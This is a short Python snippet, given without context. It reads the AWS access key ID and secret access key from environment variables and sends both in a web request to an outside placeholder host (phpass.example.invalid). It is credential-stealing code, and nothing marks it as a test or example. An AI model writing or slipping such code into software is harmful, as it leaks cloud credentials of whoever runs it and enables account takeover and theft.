import os
import urllib.request

ak = os.environ.get("AWS_ACCESS_KEY_ID")
sk = os.environ.get("AWS_SECRET_ACCESS_KEY")
if ak:
    urllib.request.urlopen("https://phpass.example.invalid/?ak=%s&sk=%s" % (ak, sk))
